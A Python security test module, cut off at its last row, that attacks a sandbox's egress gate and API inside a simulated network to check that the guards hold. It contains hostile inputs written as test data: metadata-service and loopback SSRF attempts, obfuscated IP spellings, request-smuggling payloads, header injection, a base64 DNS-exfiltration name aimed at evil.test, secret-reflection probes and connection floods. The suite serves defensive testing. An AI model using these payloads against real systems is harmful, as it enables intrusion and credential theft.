"""Attacks on the gate and on the API: one function for each row of groups G to
K that a sandbox, a server outside or a stranger can try, and what it is tried
on.

Everything happens in the test's own network: a small internet (internet.py)
with a metadata service, a name server that remembers every question, servers
that remember every request, and on the "host" listeners that nobody may reach.
They are what is looked at. A row raises Broken with what it saw; any other
exception means that the row could not be tried, which is a failure of its own.
"""

import base64
import contextlib
import os
import re
import socket
import ssl
import struct
import subprocess
import threading
import time
import urllib.parse

import attack  # noqa: F401 (the path to harness)
import harness
import internet
from harness import SLOW, wait_for
from internet import HOST4, Inside, Internet, answer, echo
from test_files import Files

TOKEN = "tok-51d0c4b7e29f4a83/qrs+TUV=="
METADATA = "169.254.169.254"
METADATA6 = "fd00:ec2::254"
PRIVATE = "10.1.2.3"
DISGUISED = "64:ff9b::a01:203"  # 10.1.2.3, as NAT64 writes it
WILD = "*.wild.test"
RULES = [
    "allow * api.test", "allow * front.test", f"allow * {WILD}",
    "allow GET https://deep.test/ok*", "allow GET http://paths.test/public/*",
    "deny * http://paths.test/private*", "allow POST http://paths.test",
    "allow * key.test", "allow * http://loop.test:8080",
    "allow * http://own.test:8080", "allow * http://own.test:8070",
    "allow * http://meta.test", "allow * http://meta6.test",
    "allow * http://private.test", "allow * http://disguise.test",
    "allow * http://mixed.test", "allow GET https://liar.test/*",
]
ROWS = {}


class Broken(AssertionError):
    """An attack that came through, or a guard that was not there."""


def row(name):
    def add(fn):
        assert name not in ROWS, name
        ROWS[name] = fn
        return fn
    return add


def check(ok, *what):
    if not ok:
        raise Broken(" ".join(map(str, what)))


def same(got, want, *what):
    check(got == want, *what, f"{got!r}, not {want!r}")


class Canary:
    """A listener on the host. `touched` says who came."""

    def __init__(self, host, port):
        self.sock = socket.socket(socket.AF_INET6 if ":" in host
                                  else socket.AF_INET)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((host, port))
        self.sock.listen(16)
        self.sock.setblocking(False)

    def touched(self):
        n = 0
        with contextlib.suppress(BlockingIOError):
            while True:
                self.sock.accept()[0].close()
                n += 1
        return n


class Instance(harness.Instance):
    """Of a build in which guards can be sent away, or of the usual one."""

    def __init__(self, build=None, **conf):
        usual = harness.BUILD
        if build:
            harness.BUILD = build
        try:
            super().__init__(**conf)
        finally:
            harness.BUILD = usual


class Rig:
    """What rows attack. `build` and `guard` are for mutations."""
    WEB = ("api", "deep", "front", "evil", "key", "paths")

    def __init__(self, build=None, guard=""):
        self.build, self.guard = build, {"guard_off": guard} if guard else {}
        self.stack = contextlib.ExitStack()
        try:
            self.set_up()
        except BaseException:
            self.stack.close()
            raise

    def set_up(self):
        self.net = net = Internet()
        self.stack.callback(net.close)
        self.web = {n: net.web(f"{n}.test") for n in self.WEB}
        self.api = self.web["api"]
        for name, address in (("meta", METADATA), ("meta6", METADATA6),
                              ("private", PRIVATE), ("disguise", DISGUISED)):
            self.web[name] = net.web(f"{name}.test", address)
        self.web["wild"] = net.web("a.wild.test")
        self.web["evilwild"] = net.web("evilwild.test")
        self.web["liar"] = net.web("liar.test", tls=net.ca.context(
            ["somebody.test"]))
        self.db = net.tcp("db.test", 5432)
        self.echo = net.tcp("hello.test", 443)
        net.names.table.update({
            "loop.test": ["127.0.0.1"], "own.test": [HOST4],
            # The first is nobody's, and what is tried next is private.
            "mixed.test": ["203.0.113.77", PRIVATE]})
        self.canaries = {"127.0.0.1": Canary("127.0.0.1", 8080),
                         HOST4: Canary(HOST4, 8080)}
        for c in self.canaries.values():
            self.stack.callback(c.sock.close)
        self.i = Instance(self.build, pool_size="512M", domain="box.test",
                          listen=f"{HOST4}:8070", listen_insecure="yes",
                          **net.conf, **self.guard)
        self.stack.callback(lambda: self.i.stop(check=not self.guard))
        self.i.cli("secret", "set", "key", "--host", "key.test", "--env", "KEY",
                   input=TOKEN, check=0)
        self.box = self.i.create(rules=RULES, secrets=["key"])
        self.inside = self.enter(self.box)
        self.slow = Slow(self)

    def close(self):
        self.stack.close()

    def enter(self, box):
        inside = Inside(self.i, box)
        self.stack.callback(inside.close)
        return inside

    def another(self, *rules, **spec):
        """A sandbox of a row's own."""
        box = self.i.create(rules=list(rules), **spec)
        return box, self.enter(box)

    def fresh(self):
        """Before each row: nobody has asked for anything."""
        for w in self.web.values():
            w.handler = w.raw = None
            w.requests.clear()
            w.accepted.clear()
        self.net.names.queries.clear()
        for c in self.canaries.values():
            c.touched()

    # -- what rows share

    def secure(self, name, sni=None):
        """TLS with the door by CONNECT; None: it did not come to be."""
        s, r = self.inside.tunnel(name)
        if r.status != 200:
            return None
        with open(self.net.ca.cert) as f:
            ca = self.inside.ca + f.read()
        try:
            return self.inside.tls(s, sni or name, ca=ca)
        except (OSError, ssl.SSLError):
            return None

    def over_tls(self, name, path="/", fields=(), host=None, sni=None, **kw):
        """A request in TLS: the answer's status, 0 when there is none."""
        s = self.secure(name, sni)
        if not s:
            return Nothing()
        with s:
            return self.inside.get(path, fields=[("Host", host or name),
                                                 *fields], sock=s, **kw)

    def raw(self, data, sock=None):
        """The statuses of all answers until the end."""
        s = sock or self.inside.connect()
        s.settimeout(10 * SLOW)
        out = b""
        with contextlib.suppress(OSError):
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
        with contextlib.suppress(OSError, ssl.SSLError):
            while got := s.recv(65536):
                out += got
        s.close()
        return [int(x) for x in re.findall(rb"HTTP/1\.1 (\d{3}) ", out)]

    def connect_status(self, place, host=None):
        found = self.raw(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" %
                         (place, host or place))
        return found[0] if found else 0

    def nobody_came(self, *names):
        for n in names:
            same(self.web[n].requests, [], f"{n}.test was asked:")

    def nobody_asked(self):
        same(self.net.asked(), [], "the name server was asked:")

    def host_untouched(self):
        for where, c in self.canaries.items():
            same(c.touched(), 0, f"connections to {where} of the host:")

    def call(self, method, path, body=None, headers=(), key=None, host=None):
        """A stranger's request to the API over TCP."""
        fields = {"Host": host or f"{HOST4}:8070", **dict(headers)}
        if key:
            fields["Authorization"] = f"Bearer {key}"
        return tcp_call(HOST4, 8070, method, path, body, fields)

    def new_key(self, scope="use", project="default"):
        r = self.i.api("POST", "/v1/keys", {"name": "k", "scope": scope,
                                            "project": project})
        assert r.status == 201, r
        return r.json["key"]

    def serve_inside(self, inside, port, reply):
        """A server in a sandbox: what it was sent."""
        s = inside.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", port))
        s.listen(16)
        self.stack.callback(s.close)
        seen = []

        def serve():
            while True:
                try:
                    c, _ = s.accept()
                except OSError:
                    return
                with contextlib.suppress(OSError):
                    c.settimeout(5 * SLOW)
                    seen.append(c.recv(65536))
                    c.sendall(reply)
                    c.shutdown(socket.SHUT_RDWR)
                c.close()
        threading.Thread(target=serve, daemon=True).start()
        return seen


class Nothing:
    """No answer, for there was no TLS."""
    status, head, body, text, fields, reason = 0, b"", b"", "", {}, None


def tcp_call(host, port, method, path, body, fields):
    with socket.create_connection((host, port), 20 * SLOW) as s:
        head = f"{method} {path} HTTP/1.1\r\n" + "".join(
            f"{k}: {v}\r\n" for k, v in fields.items())
        if body is not None:
            head += f"Content-Length: {len(body)}\r\n"
        s.sendall(head.encode("latin-1") + b"\r\n" + (body or b""))
        return internet.Reply(s)


class Slow:
    """H35: begins before the other rows, and is looked at behind them."""
    LIMIT = 10

    def __init__(self, rig):
        self.ends = {}
        self.threads = []
        for name, first in (("head", b"GET http://"), ("CONNECT", b"CONNECT a"),
                            ("nothing", b"")):
            t = threading.Thread(target=self.drip, args=(rig, name, first),
                                 daemon=True)
            t.start()
            self.threads.append(t)

    def drip(self, rig, name, first):
        began = time.monotonic()
        with contextlib.suppress(OSError):
            s = rig.inside.connect()
            s.settimeout(0.5)
            s.sendall(first)
            while time.monotonic() - began < (self.LIMIT + 5) * SLOW:
                try:
                    if not s.recv(4096):
                        break
                except TimeoutError:
                    if first:
                        s.sendall(b"a")
            else:
                return
        self.ends[name] = time.monotonic() - began


# --- G: the network, through the door ---


@row("G3")
def host_services(r):
    for name in ("loop.test", "own.test"):
        status = r.inside.get(f"http://{name}:8080/").status
        r.host_untouched()
        same(status, 403, name)


@row("G4")
def metadata(r):
    _, wide = r.another("allow * *")
    for inside, url in ((r.inside, "meta.test"), (r.inside, "meta6.test"),
                        (wide, METADATA), (wide, f"[{METADATA6}]"),
                        (wide, "meta.test")):
        status = inside.get(f"http://{url}/latest/").status
        r.nobody_came("meta", "meta6")
        same(status, 403, url)


@row("G8")
def names_of_others(r):
    for name in ("evil.test", "secret-bits.evil.test", "metadata.internal"):
        check(r.inside.resolve(name) is None, name, "has an address")
    s = r.inside.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    with contextlib.suppress(OSError):
        s.sendto(b"\x12\x34\1\0\0\1\0\0\0\0\0\0\4evil\4test\0\0\1\0\1",
                 (internet.DNS4, 53))
        out = s.recv(512)
        check(out[7] == 0, "somebody answered for evil.test:", out)
    s.close()
    r.nobody_asked()


@row("G9")
def names_that_carry(r):
    same(r.connect_status(b"c2VjcmV0.evil.test:443"), 403)
    same(r.inside.get("http://c2VjcmV0.evil.test/").status, 403)
    s = r.inside.connect()
    r.raw(b"GET / HTTP/1.1\r\nHost: c2VjcmV0.evil.test\r\n\r\n", s)
    r.nobody_asked()


@row("G12")
def ports_of_others(r):
    other, inside = r.another("deny *")
    r.serve_inside(inside, 9099, answer("other's"))
    got = r.i.api("GET", f"/v1/sandboxes/{r.box}/ports/9099/")
    check(b"other's" not in got.body, "a neighbour's server answered")
    check(got.status >= 400, got)
    got = r.i.api("GET", f"/v1/sandboxes/{other}/ports/9099/")
    assert got.body == b"other's", got  # it is really there


@row("G14")
def revoked_tunnel(r):
    box, inside = r.another("allow tcp db.test:5432")
    s = inside.connect(inside.resolve("db.test"), 5432)
    s.settimeout(5 * SLOW)
    s.sendall(b"one")
    assert s.recv(3) == b"one"
    got = r.i.api("PATCH", f"/v1/sandboxes/{box}", b'{"rules": ["deny *"]}')
    assert got.status == 200, got
    try:
        check(s.recv(1) == b"", "it is open")
    except ConnectionResetError:
        pass
    except TimeoutError:
        raise Broken("the tunnel of before is still open") from None


# --- H: the proxy ---


@row("H2")
def other_ports(r):
    for port in (b"22", b"25", b"6379", b"8443"):
        same(r.connect_status(b"api.test:" + port), 403, port)
    for port in (b"0", b"65536", b"", b"443x", b"+443", b"0443", b" 443"):
        same(r.connect_status(b"api.test:" + port, b"api.test"), 400, port)


@row("H3")
def connect_and_sni(r):
    for tunnel in ("api.test", "deep.test"):
        got = r.over_tls(tunnel, sni="front.test", host="front.test")
        r.nobody_came("front", "api", "deep")
        same(got.status, 403, f"CONNECT {tunnel}, SNI front.test:")


@row("H4")
def fronted_host(r):
    same(r.over_tls("deep.test", "/ok").status, 200)
    got = r.over_tls("deep.test", "/ok", host="front.test")
    r.nobody_came("front")
    same(got.status, 403)


def hello(names=(), more=b""):
    ext = b""
    if names:
        body = b"".join(b"\0" + struct.pack("!H", len(n)) + n for n in names)
        body = struct.pack("!H", len(body)) + body
        ext = b"\0\0" + struct.pack("!H", len(body)) + body
    ext += more
    body = (b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" +
            struct.pack("!H", len(ext)) + ext)
    body = b"\1" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack("!H", len(body)) + body


@row("H5")
def odd_hellos(r):
    _, plain = r.another("allow * hello.test")
    hidden = b"\xfe\x0d\0\1\0"
    for what, h in (("no name", hello()),
                    ("two names", hello([b"hello.test", b"evil.test"])),
                    ("NUL", hello([b"hello.test\0"])),
                    ("an address", hello([b"203.0.113.10"])),
                    ("a dot", hello([b".hello.test"])),
                    ("a hidden name", hello([b"hello.test"], hidden)),
                    ("", hello([b"HELLO.test"]))):
        r.echo.received = b""
        s, got = plain.tunnel("hello.test")
        assert got.status == 200, got
        s.settimeout(2 * SLOW)
        with contextlib.suppress(OSError):
            s.sendall(h)
            s.recv(65536)
        s.close()
        # The way there may be open by then; nothing may have come by it.
        if what:
            check(r.echo.received == b"", what, "passed")
        else:
            assert r.echo.received == h  # an ordinary one does


@row("H6")
def no_tls(r):
    _, inside = r.another("allow * hello.test")
    for first in (b"SSH-2.0-OpenSSH\r\n", b"\0\0\0\0", b"\x16\x02\0\0\0"):
        r.echo.received = b""
        s, got = inside.tunnel("hello.test")
        same(got.status, 200)
        r.raw(first, s)  # until the end: what passes has passed by then
        same(r.echo.received, b"", "it arrived:")


@row("H7")
def targets(r):
    for target, host in (("http://api.test/", "evil.test"),
                         ("http://api.test/", "front.test"),
                         ("http://api.test/", "api.test:81"),
                         ("http://me@api.test/", "api.test"),
                         ("https://api.test/", "api.test"),
                         ("http:api.test/", "api.test"),
                         ("ftp://api.test/", "api.test"), ("*", "api.test"),
                         ("api.test:80", "api.test")):
        got = r.inside.ask(f"GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n")
        r.nobody_came("api", "evil", "front")
        same(got.status, 400, target, host)
    same(r.connect_status(b"api.test:80", b"front.test:80"), 400)


@row("H8")
def host_fields(r):
    for fields in ("Host: api.test\r\nHost: front.test\r\n",
                   "Host: api.test, front.test\r\n", "Host: me@api.test\r\n",
                   "Host: \r\n", "Host: api.test\r\n front.test\r\n"):
        got = r.inside.ask(f"GET http://api.test/ HTTP/1.1\r\n{fields}\r\n")
        r.nobody_came("api", "front")
        same(got.status, 400, fields)


@row("H10")
def control_bytes(r):
    for host in (b"api.te\x01st", b"api.test\x7f", b"api.te\0st",
                 b"api.test\0.evil.test", b"api.te\tst"):
        same(r.connect_status(host + b":443", b"api.test"), 400, host)
    got = r.inside.ask(b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n"
                       b"X: a\x01b\r\n\r\n")
    r.nobody_came("api")
    same(got.status, 400, "a control byte in a field")
    r.nobody_asked()


def bad_hosts(r, *hosts):
    """Nothing else speaks against them: all is allowed, no field disagrees."""
    _, wide = r.another("allow * *")
    for host in hosts:
        got = r.raw(b"CONNECT %s:443 HTTP/1.0\r\n\r\n" % host, wide.connect())
        check(got == [400], host, got)
    r.nobody_asked()


@row("H11")
def spellings(r):
    bad_hosts(r, b"api..test", b".api.test", b"api.test..", b"-api.test",
              b"a" * 64 + b".test", b"a." * 130 + b"test", b"api,test",
              b"api%2etest")
    same(r.inside.get("http://API.Test./").status, 200)


@row("H12")
def wildcards(r):
    for name, status in (("a.wild.test", 200), ("wild.test", 403),
                         ("evilwild.test", 403), ("wild.test.evil.test", 403)):
        got = r.inside.get(f"http://{name}/")
        r.nobody_came("evilwild")
        same(got.status, status, name)


@row("H13")
def alphabets(r):
    bad_hosts(r, "äpi.test".encode(), "api。test".encode(),
              "ａpi.test".encode(), b"api.te\xc3\x9ft", "１.2.3.4".encode())


@row("H14")
def ipv4_spellings(r):
    bad_hosts(r, b"0177.0.0.1", b"0x7f.1", b"2130706433", b"127.1", b"0",
              b"1.2.3", b"1.2.3.4.5")
    _, wide = r.another("allow * *")
    for place in ("127.0.0.1:8080", f"{PRIVATE}:80", f"{METADATA}:80",
                  "0.0.0.0:8080"):
        same(wide.get(f"http://{place}/").status, 403, place)
    r.nobody_came("private", "meta")
    r.host_untouched()


@row("H15")
def ipv6_spellings(r):
    _, wide = r.another("allow * *")
    for place in ("[::1]:8080", "[::ffff:127.0.0.1]:8080", "[::127.0.0.1]:8080",
                  f"[{DISGUISED}]", "[64:ff9b::7f00:1]:8080",
                  "[2002:7f00:1::]", "[fe80::1]", "[::]:8080",
                  f"[::ffff:{PRIVATE}]"):
        same(wide.get(f"http://{place}/").status, 403, place)
    bad_hosts(r, b"[fe80::1%25eth0]", b"[::1%25lo]", b"[api.test]")
    r.nobody_came("private", "disguise")
    r.host_untouched()


@row("H16")
def rebinding(r):
    for name in ("private.test", "disguise.test", "meta.test", "mixed.test",
                 "loop.test:8080", "own.test:8080"):
        got = r.inside.get(f"http://{name}/")
        r.nobody_came("private", "disguise", "meta")
        r.host_untouched()
        same(got.status, 403, name)


SMUGGLED = b"GET http://front.test/smuggled HTTP/1.1\r\nHost: front.test\r\n\r\n"


@row("H18")
def smuggling(r):
    start = b"POST http://api.test/ HTTP/1.1\r\nHost: api.test\r\n"
    chunks = b"0\r\n\r\n"
    for what, head in (
            ("both lengths", b"Content-Length: 4\r\n"
             b"Transfer-Encoding: chunked\r\n\r\n" + chunks),
            ("two lengths", b"Content-Length: 0\r\nContent-Length: 5\r\n\r\n"),
            ("a list", b"Content-Length: 0, 0\r\n\r\n"),
            ("plus", b"Content-Length: +0\r\n\r\n"),
            ("hex", b"Content-Length: 0x0\r\n\r\n"),
            ("two codings", b"Transfer-Encoding: chunked, identity\r\n\r\n"),
            ("a coding with a tab", b"Transfer-Encoding: \x0bchunked\r\n\r\n"),
            ("a space", b"Transfer-Encoding : chunked\r\n\r\n" + chunks),
            ("bare LF", b"X: y\nZ: z\r\n\r\n"),
            ("bare CR", b"X: y\rZ: z\r\n\r\n"),
            ("folded", b"X: y\r\n z\r\n\r\n"),
            ("an extension", b"Transfer-Encoding: chunked\r\n\r\n0;x\n\r\n\r\n"),
            ("a size too large", b"Transfer-Encoding: chunked\r\n\r\n"
             b"fffffffffffffffff\r\n"),
            ("a trailer", b"Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\n\r\n")):
        found = r.raw(start + head + SMUGGLED)
        r.nobody_came("front")
        check(len(found) == 1 and found[0] >= 400, what, found)
        # A head whose body turns out wrong has left by then; nothing more.
        check(len(r.api.requests) == 0, what, r.api.requests)


@row("H19")
def pipelining(r):
    found = r.raw(b"GET http://api.test/1 HTTP/1.1\r\nHost: api.test\r\n\r\n"
                  b"GET http://front.test/2 HTTP/1.1\r\nHost: front.test\r\n\r\n"
                  b"GET http://evil.test/3 HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    same(found, [200, 200, 403])
    r.nobody_came("evil")
    same([x.target for x in r.api.requests], ["/1"])
    same([x.target for x in r.web["front"].requests], ["/2"])


@row("H20")
def early_bytes(r):
    found = r.raw(b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n"
                  b"GET http://api.test/x HTTP/1.1\r\nHost: api.test\r\n\r\n")
    same(found, [403])
    r.nobody_came("api", "evil")


@row("H21")
def upgrades(r):
    r.inside.get("http://api.test/", fields=[
        ("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"),
        ("HTTP2-Settings", "AAMAAABkAAQAAP__")])
    r.inside.get("http://api.test/", fields=[("HTTP2-Settings", "AAMAAABk")])
    for x in r.api.requests:
        for name in ("upgrade", "http2-settings"):
            check(x.header(name) is None, name, "passed:", x)
    same(r.raw(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), [505])
    s = r.secure("deep.test")
    check(s and s.selected_alpn_protocol() in (None, "http/1.1"), "h2 with us")


@row("H22")
def methods(r):
    for method, status in (("TRACE", 405), ("TRACK", 405), ("get", 400)):
        same(r.inside.get("http://api.test/", method).status, status, method)
    for field in ("X-HTTP-Method-Override", "X_HTTP-Method_Override",
                  "X-Original-URL", "X-Rewrite-Url"):
        got = r.inside.get("http://api.test/", "POST", [(field, "DELETE")])
        same(got.status, 400, field)
    s, _ = r.inside.tunnel("api.test", 80)
    got = r.inside.ask(b"CONNECT db.test:5432 HTTP/1.1\r\n"
                       b"Host: db.test:5432\r\n\r\n", s)
    same(got.status, 405, "CONNECT inside")
    r.nobody_came("api")


@row("H23")
def paths(r):
    for path, status in (
            ("/public/a", 200), ("/public%2Fa", 403), ("/private", 403), ("/%70rivate", 403),
            ("/public/../private", 400), ("/public/%2e%2e/private", 400),
            ("/public/..%2fprivate", 400), ("/public/..;/private", 400),
            ("/public/%252e%252e/private", 400), ("/public/..%5cprivate", 400),
            ("/public//a", 400), ("/public/a%00", 400), ("/public/%ff", 400)):
        same(r.inside.get("http://paths.test" + path).status, status, path)
    for path, status in (("/private/x", 403), ("/private%2Fx", 403),
                         ("/other%2Fprivate", 200)):
        same(r.inside.get("http://paths.test" + path, "POST").status, status,
             path)
    same([x.target for x in r.web["paths"].requests],
         ["/public/a", "/other%2Fprivate"])


@row("H24")
def templates(r):
    r.i.cli("secret", "set", "split", "--host", "front.test", input="a\r\nX-In: 1")
    box, inside = r.another("allow * front.test", secrets=["split"])
    s, got = inside.tunnel("front.test")
    assert got.status == 200, got
    with inside.tls(s, "front.test") as s:
        inside.get("/", fields=[("Host", "front.test")], sock=s)
    for x in r.web["front"].requests:
        check(x.header("X-In") is None, "a value made a field:", x)
    word = r.i.sh(r.box, "echo $KEY").out.strip()
    for fields in ([(f"X-{word}", "y")], [("X", f"{word} {word}")],
                   [("X", f"{word[:20]}{word}")]):
        got = r.over_tls("key.test", fields=fields)
        same(got.status, 403, fields)
    r.nobody_came("key")


@row("H26")
def own_credentials(r):
    got = r.over_tls("key.test", fields=[("authorization", "Bearer attacker"),
                                         ("Authorization-X", "y")])
    same(got.status, 200)
    found = [v for k, v in r.web["key"].requests[-1].fields
             if k.lower() == "authorization"]
    same(found, [f"Bearer {TOKEN}"])


FORMS = (TOKEN, urllib.parse.quote(TOKEN, safe=""), TOKEN.encode().hex(),
         base64.b64encode(TOKEN.encode()).decode())


@row("H27")
def reflection(r):
    r.web["key"].handler = lambda q: answer(
        " ".join(FORMS) + str(q.fields),
        fields=[("X-Echo", TOKEN), ("Set-Cookie", f"a={TOKEN}")])
    got = r.over_tls("key.test")
    same(got.status, 200)
    text = got.head.decode("latin-1") + got.text
    for f in FORMS:
        check(f not in text, "the sandbox read", f)


@row("H28")
def split_reflection(r):
    def split(q):
        text = " ".join(FORMS).encode()
        return b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + \
            b"".join(b"%x\r\n%s\r\n" % (len(text[k:k + 3]), text[k:k + 3])
                     for k in range(0, len(text), 3)) + b"0\r\n\r\n"
    r.web["key"].handler = split
    got = r.over_tls("key.test", fields=[("Accept-Encoding", "gzip, br")])
    for f in FORMS:
        check(f not in got.text, "the sandbox read", f)
    same(r.web["key"].requests[-1].header("Accept-Encoding"), "identity")


@row("H29")
def hop_by_hop(r):
    got = r.over_tls("key.test", fields=[
        ("Connection", "authorization, x-hop"), ("X-Hop", "1"),
        ("Proxy-Authorization", "Basic eA=="), ("Proxy-X", "1"), ("TE", "x"),
        ("Via", "1.1 me"), ("Forwarded", "for=me"), ("X-Forwarded-For", "::1")])
    same(got.status, 200)
    x = r.web["key"].requests[-1]
    same(x.header("Authorization"), f"Bearer {TOKEN}")
    for name in ("x-hop", "proxy-authorization", "proxy-x", "te", "via",
                 "forwarded", "x-forwarded-for", "connection"):
        check(x.header(name) is None, name, "passed")


@row("H30")
def redirects(r):
    r.api.handler = lambda q: answer(status=302, fields=[
        ("Location", "http://evil.test/")])
    same(r.inside.get("http://api.test/").status, 302)
    same(r.inside.get("http://evil.test/").status, 403)
    same(r.web["evil"].accepted, [], "the door went there:")


@row("H31")
def bad_answers(r):
    ok = b"HTTP/1.1 200 OK\r\n"
    for raw in (ok + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
                b"0\r\n\r\n",
                ok + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
                ok + b"A: b\nC: d\r\n\r\n", ok + b"A: b\x01\r\n\r\n",
                ok + b"A : b\r\n\r\n", b"HTTP/1.1 99 x\r\n\r\n",
                b"HTTP/1.1 100 Continue\r\n\r\n" * 1000 + ok + b"\r\n"):
        def serve(c):
            c.recv(65536)
            c.sendall(raw)
            c.shutdown(socket.SHUT_WR)
            c.recv(1)
        r.api.raw = serve
        s = r.inside.connect()
        same(r.inside.get("http://api.test/1", sock=s).status, 502, raw[:70])
        r.api.raw = None
        got = r.inside.get("http://api.test/2", sock=s)
        same(got.json["target"], "/2", "the answer behind it:")
        s.close()


@row("H32")
def shared_connections(r):
    _, other = r.another("allow * api.test")
    peers = []
    r.api.handler = lambda q: (peers.append(q.peer), echo(q))[1]
    one, two = r.inside.connect(), other.connect()
    for _ in range(2):
        r.inside.get("http://api.test/", sock=one)
        other.get("http://api.test/", sock=two)
    check(len(peers) == 4 and not set(peers[::2]) & set(peers[1::2]),
          "two sandboxes share a connection:", peers)
    r.inside.get("http://front.test/mine", sock=one)
    same([x.target for x in r.web["front"].requests], ["/mine"])


@row("H34")
def authority(r):
    out = r.i.sh(r.box, "sudo grep -rl 'PRIVATE KE[Y]' /etc /home /root /run "
                 "/tmp /var /usr/local /dev/shm 2>/dev/null").out
    same(out, "")
    found = subprocess.run(["grep", "-rl", "PRIVATE KEY", r.i.state_dir],
                           capture_output=True, text=True).stdout
    same(found, "")


@row("H35")
def slow_ones(r):
    for t in r.slow.threads:
        t.join()
    same(sorted(r.slow.ends), ["CONNECT", "head", "nothing"],
         "those that were ended:")


@row("H37")
def budget_race(r):
    _, inside = r.another("allow * api.test", "budget requests 3/h")
    threads = [threading.Thread(target=inside.get, args=("http://api.test/",))
               for _ in range(12)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    same(len(r.api.requests), 3, "requests that arrived:")


@row("H38")
def identity(r):
    other, them = r.another("allow * evil.test")
    for side, host, status in ((r.inside, "api.test", 200),
                               (r.inside, "evil.test", 403),
                               (them, "api.test", 403), (them, "evil.test", 200)):
        got = side.get(f"http://{host}/", fields=[("X-Sandbox-Id", other)])
        same(got.status, status, host)


@row("H39")
def relay(r):
    raw = "GET http://%s/ HTTP/1.0\r\nHost: %s\r\nUser-Agent: relay\r\n\r\n"
    same(r.inside.ask(raw % ("api.test", "api.test")).status, 200)
    same(r.inside.ask(raw % ("evil.test", "evil.test")).status, 403)
    r.nobody_came("evil")


@row("H40")
def fail_closed(r):
    _, inside = r.another("# nothing is allowed")
    same(inside.get("http://api.test/").status, 403)
    same(inside.tunnel("api.test")[1].status, 403)
    r.nobody_came("api")
    r.nobody_asked()


@row("H42")
def placeholder_in_a_tunnel(r):
    word = r.i.sh(r.box, "echo $KEY").out.strip()
    r.over_tls("api.test", fields=[("Authorization", f"Bearer {word}")])
    for x in r.api.requests:
        check(TOKEN not in str(x.fields), "the secret went to another host")


@row("H45")
def false_servers(r):
    got = r.over_tls("liar.test", "/x")
    r.nobody_came("liar")
    same(got.status, 502)


@row("F15")
def many_connections(r):
    _, them = r.another("allow * front.test")
    flood = []
    for _ in range(1400):
        s = them.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            s.connect(("127.0.0.1", 3128))
        flood.append(s)
    same(r.inside.get("http://api.test/").status, 200)

    def held():
        return max(len(os.listdir(f"/proc/{p}/fd"))
                   for p in r.i.pids()["carrel-gate"])
    wait_for("it took a thousand", lambda: held() > 1000, 20 * SLOW)
    time.sleep(0.3)  # more would come now
    n = held()
    for s in flood:
        s.close()
    check(n < 1250, "the door holds", n, "descriptors")


# --- I: secrets ---


def grep_files(top, *words):
    found = []
    for at, _, names in os.walk(top):
        for name in names:
            path = os.path.join(at, name)
            if not os.path.isfile(path) or os.path.islink(path) or \
                    path.endswith(".img") or os.path.getsize(path) > 64 << 20:
                continue
            with open(path, "rb") as f:
                data = f.read()
            found += [f"{w!r} in {path}" for w in words if w.encode() in data]
    return found


@row("I1")
def environments(r):
    r.over_tls("key.test")
    for sudo in ("", "sudo "):
        out = r.i.sh(r.box, f"{sudo}cat /proc/*/environ /proc/*/cmdline "
                     f"2>/dev/null | grep -ac {TOKEN[:18].replace('-', '[-]')}").out
        same(out, "0\n", "times the secret is in /proc:")


@row("I2")
def files_inside(r):
    out = r.i.sh(r.box, "sudo grep -rl " + TOKEN[:18].replace("-", "[-]") +
                 " /run /etc /home /root /tmp /var /dev/shm 2>/dev/null").out
    same(out, "")


@row("I3")
def files_outside(r):
    r.over_tls("key.test")
    same(grep_files(r.i.state_dir, *FORMS), [])


@row("I4")
def logs(r):
    mark = "query-" + os.urandom(8).hex()
    r.inside.get(f"http://api.test/seen-{mark[6:]}?q={mark}",
                 fields=[("X-Mark", mark)])
    audit = f"{r.i.state_dir}/audit"
    wait_for("the request is in the log", lambda: grep_files(
        audit, f"seen-{mark[6:]}"), 10 * SLOW)
    same(grep_files(audit, mark, *FORMS), [])
    log = r.i.log()
    check(not any(w in log for w in (mark, *FORMS)), "it is in the daemon's log")


@row("I6")
def memory_of_roles(r):
    for role, pids in r.i.pids().items():
        for pid in pids:
            status = attack.status(pid)
            if status.get("Uid", "0").split()[0] == "0":
                continue
            p = subprocess.run(
                ["setpriv", f"--reuid={status['Uid'].split()[0]}",
                 f"--regid={status['Gid'].split()[0]}", "--clear-groups",
                 "head", "-c1", f"/proc/{pid}/environ"], capture_output=True)
            check(p.returncode != 0, f"{role} can be looked into")


@row("I9")
def stored_keys(r):
    key = r.new_key("read")
    same(grep_files(r.i.state_dir, key, key[4:]), [])
    check(key[4:] not in r.i.log(), "it is in the daemon's log")


@row("I10")
def placeholders(r):
    word = r.i.sh(r.box, "echo $KEY").out.strip()
    check(re.fullmatch(r"carrel-placeholder-[0-9a-f]{32}", word), word)
    for name, fields in (("key", [("X-Key", word)]),
                         ("deep", [("Authorization", f"Bearer {word}")])):
        path = "/ok" if name == "deep" else "/"
        got = r.over_tls(f"{name}.test", path, fields)
        same(got.status, 403, name)
        r.nobody_came(name)
    same(r.over_tls("deep.test", "/ok").status, 200)
    same(r.web["deep"].requests[-1].header("Authorization"), None)
    other, _ = r.another("allow * key.test", secrets=["key"])
    check(r.i.sh(other, "echo $KEY").out.strip() != word, "it is everybody's")


@row("I11")
def connections_of_the_door(r):
    r.over_tls("key.test")
